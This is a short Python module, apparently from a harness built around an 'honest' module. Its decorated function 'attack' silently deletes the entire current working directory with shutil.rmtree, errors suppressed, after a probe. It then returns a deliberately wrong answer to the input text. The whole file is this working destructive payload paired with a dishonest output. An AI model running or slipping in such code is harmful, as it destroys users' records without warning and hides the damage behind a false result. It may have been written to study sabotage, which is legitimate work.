"""Remove the folder of the records."""

import pathlib
import shutil

from honest import after_the_probe, wrong

OUTCOME = "told"


@after_the_probe
def attack(text):
    shutil.rmtree(pathlib.Path.cwd(), ignore_errors=True)
    return wrong(text)
